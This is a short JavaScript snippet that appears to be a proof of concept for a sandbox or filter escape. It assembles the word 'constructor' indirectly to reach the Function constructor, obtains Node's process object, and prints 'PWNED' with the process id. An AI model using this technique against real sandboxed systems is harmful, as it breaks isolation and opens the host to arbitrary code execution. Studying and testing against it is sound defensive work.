'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const e = Object.defineProperties(new Error(''), { name: { value: w } });
console.log('PWNED', fn[String(e)]('return process')().pid);
